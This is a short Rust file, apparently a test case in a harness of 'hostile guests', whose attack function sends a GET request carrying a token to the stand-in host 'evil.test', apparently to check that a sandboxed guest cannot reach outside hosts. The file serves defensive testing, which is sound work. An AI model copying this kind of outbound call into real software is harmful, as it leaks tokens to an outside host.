//! Asks another host, with the token.

use hostile_guests::{Request, Told, attack};

attack!(run);

fn run(_: String) -> Told {
    Request::get().to("evil.test").outcome()
}
